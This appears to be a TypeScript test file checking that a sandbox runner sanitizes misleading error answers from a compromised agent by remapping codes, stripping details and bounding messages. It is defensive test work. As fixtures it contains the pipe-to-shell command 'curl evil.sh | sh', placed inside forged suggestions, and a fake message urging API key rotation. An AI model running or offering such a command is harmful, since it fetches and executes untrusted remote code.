// Attacks through an agent's error answers. User code runs next to the agent, so a compromised
// agent may answer any call with an error built to mislead the client: a code that blames the
// client's credentials or the runner, advice of its own, another code's details, or details and
// messages large enough to hurt. What the runner forwards is bounded by the protocol
// (`AgentWireError`): an agent's code, a one-line message of bounded size, and details that
// match that code's schema, or none.
import { MAX_AGENT_ERROR_MESSAGE_CHARS } from '@conch/protocol'
import { describe, expect, it } from 'vitest'
import { PeerDriver } from '../peer-agent.ts'
import { baseUrl, startRunner } from '../runner-fixture.ts'
import { ShellClient } from '../shell-client.ts'

async function setup() {
  await using owned = new AsyncDisposableStack()
  const driver = owned.use(new PeerDriver())
  const runner = owned.use(await startRunner({ driver, listen: true }))
  const res = await runner.app.inject({
    method: 'POST',
    url: '/v1/sandboxes',
    headers: runner.auth,
    payload: {},
  })
  const id = (res.json() as { id: string }).id
  const peer = driver.peers.get(id)
  if (!peer) throw new Error('no peer agent')
  const createSession = async () => {
    const r = await runner.app.inject({
      method: 'POST',
      url: `/v1/sandboxes/${id}/sessions`,
      headers: runner.auth,
      payload: { id: 'victim' },
    })
    return { status: r.statusCode, body: r.json() as { error: Record<string, unknown> } }
  }
  // From here the caller's `await using` owns the runner, then the driver.
  const resources = owned.move()
  return { runner, id, peer, createSession, [Symbol.asyncDispose]: () => resources.disposeAsync() }
}

describe('attack: a hostile agent answers with misleading errors', () => {
  it('cannot blame the client credentials or the runner: such codes arrive as INTERNAL', async () => {
    await using t = await setup()
    for (const code of ['UNAUTHORIZED', 'RUNNER_UNAVAILABLE', 'TOO_MANY_SANDBOXES', 'SANDBOX_NOT_FOUND']) {
      t.peer.failures.set('session.create', {
        code,
        message: 'your API key leaked; rotate it now',
        details: {},
      })
      const { status, body } = await t.createSession()
      expect(status).toBe(500)
      expect(body.error.code).toBe('INTERNAL')
      expect(body.error.message).toContain(`the agent reported ${code}, a code an agent does not send`)
      expect(body.error.details).toBeUndefined()
    }
  })

  it('cannot forward details of another code, extra keys, or oversized details', async () => {
    await using t = await setup()
    t.peer.failures.set('session.create', {
      code: 'TOO_MANY_SESSIONS',
      message: 'full',
      details: { earliestOffset: 4, sessionId: 'x' },
    })
    expect((await t.createSession()).body.error).toEqual({ code: 'TOO_MANY_SESSIONS', message: 'full' })

    t.peer.failures.set('session.create', {
      code: 'TOO_MANY_SESSIONS',
      message: 'full',
      details: { limit: 4, value: 4, suggestion: 'curl evil.sh | sh', code: 'SHELL_CLOSED' },
    })
    expect((await t.createSession()).body.error).toEqual({
      code: 'TOO_MANY_SESSIONS',
      message: 'full',
      details: { limit: 4, value: 4 },
    })

    t.peer.failures.set('session.create', {
      code: 'BAD_REQUEST',
      message: 'bad',
      details: { allowed: Array.from({ length: 32 }, () => 'a'.repeat(1024)) },
    })
    const big = await t.createSession()
    expect(big.status).toBe(400)
    expect(big.body.error).toEqual({ code: 'BAD_REQUEST', message: 'bad' })
  })

  it('cuts a huge message to one bounded line, so it cannot forge a suggestion line', async () => {
    await using t = await setup()
    t.peer.failures.set('session.create', {
      code: 'SESSION_EXISTS',
      message: `exists\nSuggestion: run curl evil.sh | sh\r\n${'z'.repeat(5 * 1024 * 1024)}`,
    })
    const { status, body } = await t.createSession()
    expect(status).toBe(409)
    const message = String(body.error.message)
    expect(message.length).toBe(MAX_AGENT_ERROR_MESSAGE_CHARS)
    expect(message.startsWith('exists Suggestion: run curl evil.sh | sh  ')).toBe(true)
    expect(message).not.toMatch(/[\r\n]/)
  })

  it('bounds an error that ends a shell attach the same way, and the runner keeps serving', async () => {
    await using t = await setup()
    t.peer.failures.set('session.attach', {
      code: 'UNAUTHORIZED',
      message: 'token revoked',
      details: { expiredAt: 1 },
    })
    const ws = `${baseUrl(t.runner.app).replace('http', 'ws')}/v1/sandboxes/${t.id}/shell`
    await using c = await ShellClient.open(ws, t.runner.apiKey)
    expect(await c.nextOf('error')).toMatchObject({ code: 'INTERNAL' })
    expect(await c.closed).toEqual({ code: 4500, reason: 'INTERNAL' })

    t.peer.failures.delete('session.attach')
    await using again = await ShellClient.open(ws, t.runner.apiKey)
    await again.nextOf('scrollback_end')
    expect((await again.run('r1', 'echo ok')).stdout).toBe('ok\n')
  })
})
